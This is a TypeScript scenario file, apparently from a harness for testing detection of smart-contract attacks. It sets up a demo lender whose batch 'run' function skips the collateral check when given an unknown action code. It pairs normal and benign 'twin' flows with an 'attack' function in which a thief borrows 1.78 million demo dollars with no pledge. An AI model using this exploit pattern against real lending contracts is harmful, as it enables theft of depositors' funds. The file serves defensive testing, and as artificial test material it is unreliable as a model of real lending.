import { maxUint256, parseEther } from 'viem'
import { readArtifact } from '../../artifact.ts'
import { dollars } from '../acmeVault.ts'
import type { Scenario } from '../scenario.ts'

const [nothing, pledge, free, borrow, repay] = [0, 1, 2, 3, 4]

export const borrowedForNothing: Scenario = {
  name: 'borrowed-for-nothing',
  theme: 'value',
  attack:
    'A lender takes several steps in one call, and one that it does not know makes it forget to ask for the pledge: a thief borrows a tenth, and later the rest.',
  twin: 'A customer pledges much, borrows a third of all that is left, pays half of it back and takes as much of the pledge out.',

  async build({ deploy, call, accounts, mine }) {
    const [deployer, customer] = [accounts[0]!, accounts[12]!]
    const [users, thief] = [accounts.slice(2, 8), accounts[20]!]
    const dollar = await deploy(readArtifact('DemoDollar'), { args: [deployer] })
    const gold = await deploy(readArtifact('AcmeToken'), { args: [deployer, parseEther('1000000')] })
    // Ten dollars, which have six decimals, for one of gold, which has eighteen.
    const lender = await deploy(readArtifact('BatchLender'), { args: [gold.address, dollar.address, 10_000_000n] })
    await call(dollar, 'mint', [lender.address, dollars('2000000')])
    for (const from of [...users, customer]) {
      await call(gold, 'transfer', [from, parseEther('100000')])
      for (const token of [gold, dollar]) await call(token, 'approve', [lender.address, maxUint256], { from })
    }
    return {
      protect: [lender.address],
      victims: [lender.address],
      async ordinary() {
        for (const from of users) {
          await call(
            lender,
            'run',
            [
              [pledge, borrow],
              [parseEther('4000'), dollars('21000')],
            ],
            { from },
          )
          await mine(3)
          await call(
            lender,
            'run',
            [
              [repay, free],
              [dollars('900'), parseEther('120')],
            ],
            { from },
          )
        }
      },
      async attack() {
        await call(
          lender,
          'run',
          [
            [borrow, nothing],
            [dollars('180000'), 0n],
          ],
          { from: thief },
        )
        await mine(12)
        await call(
          lender,
          'run',
          [
            [borrow, nothing],
            [dollars('1600000'), 0n],
          ],
          { from: thief },
        )
      },
      async twin() {
        await call(
          lender,
          'run',
          [
            [pledge, borrow],
            [parseEther('90000'), dollars('620000')],
          ],
          { from: customer },
        )
        await mine(5)
        await call(
          lender,
          'run',
          [
            [repay, free],
            [dollars('310000'), parseEther('45000')],
          ],
          { from: customer },
        )
      },
    }
  },
}
